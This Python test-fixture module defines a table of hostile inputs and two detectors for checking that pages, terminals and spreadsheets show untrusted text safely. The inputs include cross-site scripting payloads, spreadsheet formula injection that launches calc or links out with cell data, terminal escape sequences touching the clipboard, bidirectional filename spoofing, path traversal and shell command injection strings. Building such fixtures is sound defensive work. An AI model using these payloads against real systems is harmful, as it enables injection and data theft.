"""What a hostile network may answer, and what people may be made to send: one table for every place that shows it.

``HOSTILE`` maps what it tries to the text it tries it with; ``HOSTILE_BYTES`` is what is no text at all. A page, a
terminal, a spreadsheet or a viewer that shows any of these must stay what it was: see ``steers`` and ``spawns``.
"""

from __future__ import annotations

import re
import unicodedata

MARK = "h0stile"
"""In every text, so that a test can see that it was shown rather than dropped."""

HOSTILE: dict[str, str] = {
    "a script": f"<script>document.title='{MARK}'</script>",
    "a script that closes ours": f"</script><script>document.title='{MARK}'</script>",
    "a style that closes ours": f"</style><script>document.title='{MARK}'</script>",
    "a title that closes ours": f"</title></head><body onload=document.title='{MARK}'>",
    "an image that fails": f"<img src=x onerror=\"document.title='{MARK}'\">",
    "a drawing": f"<svg/onload=document.title='{MARK}'>",
    "an attribute's end": f"\" onmouseover=\"document.title='{MARK}'\" x='",
    "a link that runs": f"javascript:document.title='{MARK}'",
    "a frame": f"<iframe srcdoc=\"<script>top.document.title='{MARK}'</script>\"></iframe>",
    "a comment that opens": f"<!-- {MARK}",
    "a comment that closes": f"--> {MARK}",
    "character data": f"]]><script>{MARK}</script>",
    "a template": f"{{{{ {MARK} }}}}{{% for x in y %}}${{{MARK}}}",
    "a meta refresh": f'<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/{MARK}">',
    "an image that calls home": f'<img src="http://127.0.0.1:9/{MARK}.png">',
    "a style that calls home": f"<style>@import 'http://127.0.0.1:9/{MARK}.css'</style>",
    "a formula": f"=cmd|'/c calc'!A1 {MARK}",
    "a formula that calls home": f'=HYPERLINK("http://127.0.0.1:9/?x="&A1,"{MARK}")',
    "a formula by plus": f"+1+cmd|'/c calc'!A1 {MARK}",
    "a formula by minus": f"-1+cmd|'/c calc'!A1 {MARK}",
    "a formula by at": f"@SUM(1+1)*cmd|'/c calc'!A1 {MARK}",
    "a formula after a tab": f"\t=1+1 {MARK}",
    "a formula after a carriage return": f"\r=1+1 {MARK}",
    "a formula after a line end": f"{MARK}\n=1+1",
    "a formula after blanks": f"   =1+1 {MARK}",
    "a formula after a no-break space": f"\u00a0=1+1 {MARK}",
    "a formula after a zero-width space": f"\u200b=1+1 {MARK}",
    "a formula after a byte order mark": f"\ufeff=1+1 {MARK}",
    "a formula after a quote": f'"=1+1 {MARK}',
    "a formula after an apostrophe": f"'=1+1 {MARK}",
    "a formula in full width": f"\uff1d1\uff0b1 {MARK}",
    "a formula by a full-width at": f"\uff20SUM(1) {MARK}",
    "a formula in a new cell": f'{MARK}",=1+1,"',
    "a formula in a semicolon's cell": f"{MARK};=1+1",
    "a formula in a quoted semicolon's cell": f'{MARK}"; "=1+1',
    "a new row": f"{MARK}\r\n=1+1,2,3",
    "a cleared screen": f"\x1b[2J\x1b[H{MARK}",
    "a terminal's title": f"\x1b]0;{MARK}\x07",
    "a terminal's clipboard": f"\x1b]52;c;aDBzdGlsZQ==\x07{MARK}",
    "a terminal's link": f"\x1b]8;;http://127.0.0.1:9/\x1b\\{MARK}\x1b]8;;\x1b\\",
    "a terminal's answer": f"\x1b[6n\x1bP+q544e\x1b\\{MARK}",
    "an eight-bit escape": f"\x9b2J\x9d0;{MARK}\x9c",
    "a line overwritten": f"status 200\rstatus 500 {MARK}",
    "letters taken back": f"bad\b\b\bgood {MARK}",
    "a bell and a delete": f"\x07\x7f{MARK}",
    "a forged line of a transcript": f"{MARK}\n< HTTP/1.1 200 OK\n* Body: empty",
    "line ends of every kind": f"{MARK}\x0b\x0c\x85\u2028\u2029end",
    "a right-to-left override": f"{MARK}\u202egpj.exe\u202c",
    "isolates": f"\u2066\u2067{MARK}\u2069\u2069",
    "marks of direction": f"\u200e\u200f\u061c{MARK}",
    "right-to-left letters": f"\u05d0\u05d1\u05d2 {MARK} \u0627\u0644",
    "what cannot be seen": f"{MARK[:3]}\u200b\u200d\u2060\ufeff\u00ad{MARK[3:]}{MARK}",
    "tag characters": f"\U000e0041\U000e0042{MARK}",
    "marks on marks": f"{MARK}" + "\u0301\u0489" * 60,
    "a nul": f"{MARK}\0<script>x</script>\0",
    "a lone nul at its start": f"\0{MARK}",
    "a path that climbs": f"../../../../{MARK}",
    "a path of its own": f"/etc/{MARK}",
    "a path with a drive": f"C:\\Windows\\{MARK}",
    "a path with backslashes": f"..\\..\\{MARK}",
    "a path with a nul": f"{MARK}.txt\0.exe",
    "a name of a device": f"CON.{MARK}",
    "entities": f"&lt;script&gt;{MARK}&#x3c;/script&#x3e;&amp;",
    "a JSON string's end": f'","injected":"{MARK}","x":"\\',
    "a JSON escape": f"\\u003cscript\\u003e{MARK}\\",
    "a shell's command": f"'; touch {MARK}; echo '$(touch {MARK})`touch {MARK}`",
    "format characters": f"%s%n%d{{0}}{{self.__class__}}{MARK}",
    "backslashes": f"\\x1b[31m{MARK}\\\\x00",
    "a very long line": f"{MARK}" + "A" * 20_000,
    "a deep nest": f"{MARK}" + "[" * 5_000,
}  # fmt: skip

HOSTILE_BYTES: dict[str, bytes] = {
    "invalid UTF-8": b"h0stile \xff\xfe\xc0\xaf\xed\xa0\x80 end",
    "a cut character": b"h0stile \xe2\x82",
    "an overlong slash": b"h0stile \xc0\xaf..\xc0\xaf",
    "UTF-7": b"+ADw-script+AD4-h0stile+ADw-/script+AD4-",
    "UTF-16": "<script>h0stile</script>".encode("utf-16"),
    "UTF-32": "<script>h0stile</script>".encode("utf-32"),
    "every byte": bytes(range(256)),
    "an executable": b"MZ\x90\x00h0stile\x7fELF",
    "a zip": b"PK\x03\x04h0stile",
    "Shift-JIS that swallows a quote": b'h0stile \x82"<script>x</script>',
}

_BIDIRECTIONAL = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_TAG = re.compile(
    r"<(?:/?(?:script|style|iframe|img|svg|meta|title|body|html|link|object|embed|form|base)\b|!--)",
    re.IGNORECASE,
)


def steers(shown: str) -> list[str]:
    """Characters of ``shown`` that a terminal would obey or that turn text round, line ends left aside; none is right."""
    return sorted(
        {
            char
            for char in shown
            if char != "\n" and (unicodedata.category(char)[0] == "C" or char in _BIDIRECTIONAL)
        }
        | {char for char in shown if char in "\u2028\u2029"}
    )


def spawns(markup: str) -> list[str]:
    """Markup in ``markup`` that a stranger's text could have brought in; give it the part that shows that text."""
    return _TAG.findall(markup)
